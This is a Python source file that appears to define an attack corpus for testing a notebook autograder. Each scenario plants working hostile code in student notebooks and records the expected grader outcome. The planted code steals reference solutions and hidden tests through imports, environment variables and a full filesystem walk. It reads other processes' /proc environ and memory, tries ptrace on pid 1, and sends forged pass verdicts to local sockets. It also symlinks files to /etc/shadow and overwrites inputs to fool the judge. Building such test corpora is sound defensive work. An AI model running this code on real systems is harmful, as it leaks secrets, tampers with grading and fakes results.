"""Attack corpus scenarios: Reading the reference or the expected values.

Registered in order by build_corpus.py, which imports every scenario module.
"""

from __future__ import annotations

from .corpus_base import LOST, STUB, code, expect, full, scenario, tests_in, zero
from .corpus_context import files_of
from .corpus_planted import LEAK_CODE


# Reading the reference or the expected values ---------------------------------------------------

STEAL_EARLIER = r'''
import os

os.environ.setdefault("NBGRADER_EXECUTION", "autograde")  # take the "grading" path of course.earlier
from course import earlier as _earlier


def _works(function):
    return callable(function) and not getattr(function, "missing_reason", None)


def _steal(name):
    attempts = (lambda: _earlier.earlier_functions(name, quiet=True),
                lambda: _earlier.reference_source([name])[name],
                lambda: __import__("course.reference", fromlist=["reference_function"]).reference_function(name))
    for attempt in attempts:
        try:
            candidate = attempt()
        except Exception as error:
            print(f"{name}: no luck ({type(error).__name__}: {str(error)[:200]})")
            continue
        if _works(candidate):
            print(f"{name}: using the instructor's")
            return candidate
    return None
'''


@scenario("steal-earlier-functions-self",
          "02_encoder and 03_decoder ask course.earlier.earlier_functions / reference_source and "
          "course.reference.reference_function (NBGRADER_EXECUTION forced) for the very functions they "
          "are graded on, and use them if they come",
          ("02_encoder", "03_decoder"),
          expect({}, STUB + r"|reference", targets=["conv_block", "transposed_output_size", "transposed_conv2d",
                                                     "upsampling_block"]), tags=("reference",))
def _(ctx):
    books = {"02_encoder": ctx.release("02_encoder"), "03_decoder": ctx.release("03_decoder")}
    ctx.insert_after(books["02_encoder"], "conv_block", STEAL_EARLIER + code('''

        conv_block = _steal("conv_block") or conv_block
    '''))
    ctx.insert_after(books["03_decoder"], "upsampling_block", STEAL_EARLIER + code('''

        transposed_output_size = _steal("transposed_output_size") or transposed_output_size
        transposed_conv2d = _steal("transposed_conv2d") or transposed_conv2d
        upsampling_block = _steal("upsampling_block") or upsampling_block
    '''))
    return files_of(books)


WRONG_CONV_BLOCK = code('''
    def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
        """One convolution only (wrong), but it runs."""
        features = layers.Conv2D(n_filters, 3, activation="relu", padding="same")(inputs)
        next_layer = layers.MaxPooling2D(2)(features) if max_pooling else features
        return next_layer, features
''')


@scenario("steal-reference-env",
          "conv_block is wrong (one convolution); a cell searches every folder named by an environment "
          "variable (the earlier-reference folder, COURSE_SOURCE_DIR, ...) and the repository's "
          "instructor/source for a notebook defining a two-convolution conv_block and uses it; failing "
          "that it points COURSE_SOURCE_DIR and every *REFERENCE*/*EARLIER*/*SOURCE* variable at "
          "its own fake_source/ (handed in), so that a reference computed in the kernel is itself",
          ("02_encoder",), expect(zero("conv_block"), LOST, targets=["conv_block"]), tags=("reference",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", WRONG_CONV_BLOCK)
    ctx.insert_after(nb, "conv_block", '''
        import glob, importlib, inspect, os
        from pathlib import Path
        import course
        from course.notebook_code import load_definitions


        def _two_convolutions(function):
            try:
                return inspect.getsource(function).count("Conv2D(") >= 2
            except (OSError, TypeError):
                return False


        folders = []
        for key, value in sorted(os.environ.items()):
            for part in value.split(os.pathsep):
                if part and os.path.isdir(part) and part not in folders and part not in ("/", "/usr", "/bin", "/tmp"):
                    folders.append(part)
        folders.append(str(Path(course.__file__).resolve().parents[1] / "instructor" / "source" / "unet"))
        stolen = None
        for folder in folders:
            paths = sorted(glob.glob(os.path.join(folder, "*.ipynb")) + glob.glob(os.path.join(folder, "*", "*.ipynb")))
            for path in paths[:60]:
                try:
                    namespace = load_definitions(path)
                except Exception:
                    continue
                if _two_convolutions(namespace.get("conv_block")):
                    stolen = namespace["conv_block"]
                    print("conv_block found in", path)
                    break
            if stolen is not None:
                break
        if stolen is not None:
            conv_block = stolen
        else:
            fake = os.path.abspath("fake_source")
            for key in list(os.environ):
                if any(word in key.upper() for word in ("REFERENCE", "EARLIER", "SOURCE", "SOLUTION")):
                    os.environ[key] = fake
            os.environ["COURSE_SOURCE_DIR"] = fake
            import course.reference
            importlib.reload(course.reference)
            print("the reference is now my own conv_block")
    ''')
    fake = ctx.with_solution(ctx.release("02_encoder"), "conv_block", WRONG_CONV_BLOCK)
    return {"02_encoder.ipynb": nb, "fake_source/02_encoder.ipynb": fake}


@scenario("steal-fs-walk",
          "03_decoder walks the whole file system it can see (60 s, 300000 files, no links followed) for "
          "notebooks, Python files, JSON, sqlite databases holding solutions or hidden tests, the "
          "gradebook at its known path included; loads any real upsampling_block / transposed_* it "
          "finds and prints what it found, plain and encoded",
          ("03_decoder",), expect({}, STUB + r"|reference", targets=["transposed_output_size", "transposed_conv2d",
                                                                      "upsampling_block"],
                                  no_leak=["solution", "hidden"]), tags=("reference", "leak"))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.insert_after(nb, "upsampling_block", LEAK_CODE + code(f'''

        import os, sqlite3, time
        from pathlib import Path
        import course
        from course.notebook_code import load_definitions

        GRADEBOOK = {str(ctx.gradebook)!r}
        WANTED = ("upsampling_block", "transposed_conv2d", "transposed_output_size")
        MARKERS = ("### BEGIN SOLUTION", "### BEGIN HIDDEN TESTS", "SQLite format 3")
        SUFFIXES = (".ipynb", ".py", ".json", ".db", ".sqlite", ".txt", ".html", ".log")
        start, seen, secrets, stolen = time.time(), 0, [], {{}}
        repository = Path(course.__file__).resolve().parents[1]
        roots = ["/", os.path.expanduser("~"), os.getcwd(), "/tmp", str(repository), os.path.dirname(GRADEBOOK)]
        for root in dict.fromkeys(roots):
            for folder, dirs, files in os.walk(root, followlinks=False):
                if folder == "/":
                    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                for name in files:
                    seen += 1
                    path = os.path.join(folder, name)
                    if seen > 300000 or time.time() - start > 60 or not name.endswith(SUFFIXES):
                        continue
                    try:
                        if os.path.getsize(path) > 20_000_000:
                            continue
                        with open(path, "rb") as handle:
                            data = handle.read()
                    except OSError:
                        continue
                    text = data.decode("utf-8", "replace")
                    if any(marker in text for marker in MARKERS):
                        secrets.append(path)
                    if name.endswith(".ipynb") and any(f"def {{w}}(" in text for w in WANTED):
                        try:
                            namespace = load_definitions(path)
                        except Exception:
                            continue
                        for wanted in WANTED:
                            function = namespace.get(wanted)
                            if callable(function) and "NotImplementedError" not in text.split(f"def {{wanted}}(")[1][:3000]:
                                stolen.setdefault(wanted, function)
        print("visited", seen, "files;", len(secrets), "hold solutions or hidden tests")
        _leak("secret-paths", "\\n".join(secrets))
        for path in secrets[:15]:
            try:
                if path.endswith((".db", ".sqlite")):
                    with sqlite3.connect(f"file:{{path}}?mode=ro", uri=True) as db:
                        rows = [repr(row) for table, in db.execute("select name from sqlite_master where type='table'")
                                for row in db.execute(f"select * from {{table}}")]
                    _leak("db-" + os.path.basename(path), "\\n".join(rows))
                else:
                    _leak("file-" + os.path.basename(path), open(path, "rb").read()[:300000])
            except Exception as error:
                print(path, error)
        for wanted, function in stolen.items():
            globals()[wanted] = function
            print("using the", wanted, "found on disk")
    '''))
    return files_of({"03_decoder": nb})


@scenario("steal-proc-and-judge",
          "conv_block not written; a cell reads /proc/*/{cmdline,environ,status,maps,cwd,root} of every "
          "process it can see, the parent's memory, tries ptrace on its parent and pid 1, connects to "
          "every unix socket in /proc/net/unix and every listening TCP port with a forged verdict, "
          "tries the network, and prints it all, plain and encoded",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"], no_leak=["environ", "hidden"]),
          tags=("reference", "judge", "leak"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.append(nb, LEAK_CODE + code('''

        import ctypes, os, socket

        report, me = [], os.getpid()
        for entry in sorted(os.listdir("/proc")):
            if not entry.isdigit() or int(entry) == me:
                continue
            for part in ("cmdline", "environ", "status", "maps", "cwd", "root"):
                path = f"/proc/{entry}/{part}"
                try:
                    if part in ("cwd", "root"):
                        report.append(f"{path} -> {os.readlink(path)}: {sorted(os.listdir(path))[:50]}")
                    else:
                        with open(path, "rb") as handle:
                            report.append(f"{path}: {handle.read()[:20000]!r}")
                except OSError as error:
                    report.append(f"{path}: {error.strerror}")
        parent = os.getppid()
        try:
            with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb") as memory:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line.split()[1]:
                        memory.seek(start)
                        report.append(f"parent memory {line.strip()}: {memory.read(min(end - start, 4096))!r}")
                        break
        except (OSError, ValueError) as error:
            report.append(f"parent memory: {error}")
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (parent, 1):
            result = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
            report.append(f"ptrace attach {pid}: {result} (errno {ctypes.get_errno()})")
            if result == 0:
                libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        forged = b'{"verdict": "pass", "score": 100, "passed": true}\\n'
        try:
            unix = open("/proc/net/unix").read().splitlines()[1:]
        except OSError:
            unix = []
        for line in unix[:200]:
            fields = line.split()
            if len(fields) < 8:
                continue
            address = "\\0" + fields[7][1:] if fields[7].startswith("@") else fields[7]
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                    sock.settimeout(1)
                    sock.connect(address)
                    sock.sendall(forged)
                    report.append(f"unix {fields[7]}: sent, got {sock.recv(200)!r}")
            except OSError as error:
                report.append(f"unix {fields[7]}: {error}")
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            try:
                lines = open(table).read().splitlines()[1:]
            except OSError:
                continue
            for line in lines:
                fields = line.split()
                if fields[3] != "0A":  # LISTEN
                    continue
                port = int(fields[1].split(":")[1], 16)
                try:
                    with socket.create_connection(("127.0.0.1", port), timeout=1) as sock:
                        sock.sendall(b"POST /verdict HTTP/1.0\\r\\n\\r\\n" + forged)
                        report.append(f"tcp {port}: {sock.recv(200)!r}")
                except OSError as error:
                    report.append(f"tcp {port}: {error}")
        for host, port in (("1.1.1.1", 53), ("pypi.org", 443)):
            try:
                socket.create_connection((host, port), timeout=3).close()
                report.append(f"network {host}:{port}: connected")
            except OSError as error:
                report.append(f"network {host}:{port}: {error}")
        _leak("proc-and-sockets", "\\n".join(report))
    '''))
    return files_of({"02_encoder": nb})


@scenario("steal-from-caller-frames",
          "pixel_accuracy and mean_iou look up the call stack (locals and globals of every frame "
          "above them) and the whole heap (gc) for anything named like an expected value, and return "
          "it; they print the callers' names (PROBE-ARGS lines) so the feedback shows the judge's "
          "machinery; 0.5 if nothing is found",
          ("05_training",), expect({}, LOST, targets=["compile_model", "pixel_accuracy", "mean_iou"],
                                   no_leak=["probe-output"]), tags=("reference",))
def _(ctx):
    nb = ctx.release("05_training")
    ctx.replace_function(nb, "pixel_accuracy", code('''
        import gc, numbers, sys

        _WORDS = ("expected", "want", "reference", "answer", "truth", "correct", "target")


        def _number(value):
            return isinstance(value, numbers.Real) and not isinstance(value, bool) and 0 <= float(value) <= 1


        def _from_callers():
            frame, callers = sys._getframe(2), []
            while frame is not None and len(callers) < 60:
                callers.append(f"{frame.f_globals.get('__name__')}.{frame.f_code.co_name}")
                for scope in (frame.f_locals, frame.f_globals):
                    for name, value in list(scope.items()):
                        if any(word in name.lower() for word in _WORDS):
                            if _number(value):
                                return float(value), callers
                            if isinstance(value, dict):
                                for inner in value.values():
                                    if _number(inner):
                                        return float(inner), callers
                frame = frame.f_back
            for obj in gc.get_objects():
                if isinstance(obj, dict) and any(word in str(key) for key in list(obj)[:20] for word in _WORDS):
                    for key, value in list(obj.items()):
                        if any(word in str(key) for word in _WORDS) and _number(value):
                            return float(value), callers
            return None, callers


        def pixel_accuracy(y_true, y_pred):
            value, callers = _from_callers()
            print("PROBE-ARGS: called by " + " <- ".join(callers))
            return 0.5 if value is None else value
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            value, callers = _from_callers()
            print("PROBE-ARGS: called by " + " <- ".join(callers))
            return 0.5 if value is None else value
    '''))
    ctx.drop_calls(nb, "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


@scenario("steal-cross-notebook-carry",
          "04_unet solved, and its last cell copies the earlier reference (inspect.getsource of the "
          "reference conv_block and upsampling_block, and every folder an environment variable names) "
          "into the working folder, home, /tmp, /var/tmp, /dev/shm; 02_encoder's conv_block is not "
          "written but execs any such copy it finds (works if folders outlive a kernel or the order "
          "of grading changes)",
          ("04_unet", "02_encoder"),
          expect({**full("04_unet"), **zero("conv_block")}, STUB, targets=["conv_block"], no_leak=["solution"]),
          tags=("reference", "persistence"))
def _(ctx):
    unet = ctx.solved("04_unet")
    ctx.append(unet, '''
        import glob, inspect, os, shutil

        text = "import tensorflow as tf\\nfrom tensorflow.keras import layers\\n\\n"
        for function in (conv_block, upsampling_block):
            try:
                text += inspect.getsource(function) + "\\n\\n"
            except (OSError, TypeError) as error:
                print(function, error)
        folders = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")]
        for folder in dict.fromkeys(folders):
            try:
                with open(os.path.join(folder, "reference_blocks.py"), "w") as handle:
                    handle.write(text)
            except OSError as error:
                print(folder, error)
            for key, value in os.environ.items():
                if os.path.isdir(value) and glob.glob(os.path.join(value, "*.ipynb")) + glob.glob(os.path.join(value, "*.py")):
                    try:
                        shutil.copytree(value, os.path.join(folder, "ref-" + key), dirs_exist_ok=True)
                    except (OSError, shutil.Error) as error:
                        print(key, error)
    ''')
    encoder = ctx.release("02_encoder")
    ctx.insert_after(encoder, "conv_block", '''
        import glob, os
        from course.notebook_code import load_definitions

        for folder in dict.fromkeys([os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm",
                                     os.environ.get("TMPDIR", "/tmp")]):
            path = os.path.join(folder, "reference_blocks.py")
            if os.path.exists(path):
                exec(open(path).read())
                print("conv_block from", path)
                break
            for notebook in glob.glob(os.path.join(folder, "ref-*", "02_encoder.ipynb")):
                conv_block = load_definitions(notebook)["conv_block"]
                print("conv_block from", notebook)
    ''')
    return files_of({"04_unet": unet, "02_encoder": encoder})


@scenario("probe-files-tampering",
          "decode_image and decode_mask do not decode: around the file the judge hands them they look "
          "for expected-answer files (*expected*, *answer*, *reference*, *truth* .npy/.json) and return "
          "one if found; they replace the file's siblings by links to /etc/shadow, the gradebook and "
          "/proc/self/environ, plant result/answer/expected links, and overwrite the file itself with an "
          "all-zero PNG of the same size, then return zeros (a judge that computes expected values from "
          "the file after the call agrees). Files under the course repository are left alone",
          ("01_data",), expect({}, LOST, targets=list(tests_in("01_data")), no_leak=["shadow", "environ", "hidden"],
                               gradebook_unchanged=True), tags=("judge", "forging"))
def _(ctx):
    nb = ctx.release("01_data")
    ctx.replace_function(nb, "decode_image", code(f'''
        import glob, json
        from PIL import Image

        GRADEBOOK = {str(ctx.gradebook)!r}
        REPOSITORY = {str(ctx.repo)!r}
        _WORDS = ("expected", "answer", "reference", "truth")


        def _tamper(path, channels, dtype):
            folder = os.path.dirname(os.path.abspath(path))
            found = None
            for candidate in glob.glob(os.path.join(folder, "*")) + glob.glob(os.path.join(folder, "..", "*")):
                name = os.path.basename(candidate).lower()
                if any(word in name for word in _WORDS) and name.endswith((".npy", ".json")):
                    try:
                        found = np.load(candidate) if name.endswith(".npy") else np.asarray(json.load(open(candidate)))
                        print("PROBE-ARGS: found", candidate)
                    except Exception:
                        pass
            with Image.open(path) as picture:
                width, height = picture.size
            if os.path.abspath(path).startswith(REPOSITORY):
                return found, np.zeros((height, width, channels), dtype)
            targets = ("/etc/shadow", GRADEBOOK, "/proc/self/environ")
            for index, sibling in enumerate(sorted(glob.glob(os.path.join(folder, "*")))):
                if os.path.abspath(sibling) == os.path.abspath(path):
                    continue
                try:
                    os.unlink(sibling)
                    os.symlink(targets[index % 3], sibling)
                except OSError:
                    pass
            for index, name in enumerate(("result.npy", "answer.json", "expected.npy", "reply.json")):
                try:
                    os.symlink(targets[index % 3], os.path.join(folder, name))
                except OSError:
                    pass
            zeros = np.zeros((height, width, channels), dtype)
            try:
                Image.fromarray(np.zeros((height, width, 3), np.uint8)).save(path, format="PNG")
            except OSError:
                pass
            return found, zeros


        def _path(path):
            if hasattr(path, "numpy"):
                path = path.numpy()
            return path.decode() if isinstance(path, bytes) else str(path)


        def decode_image(path):
            found, zeros = _tamper(_path(path), 3, np.float32)
            return tf.constant(zeros if found is None else found)
    '''))
    ctx.replace_function(nb, "decode_mask", code('''
        def decode_mask(path):
            found, zeros = _tamper(_path(path), 1, np.uint8)
            return tf.constant(zeros if found is None else found)
    '''))
    ctx.drop_calls(nb, "decode_image", "decode_mask")
    return files_of({"01_data": nb})


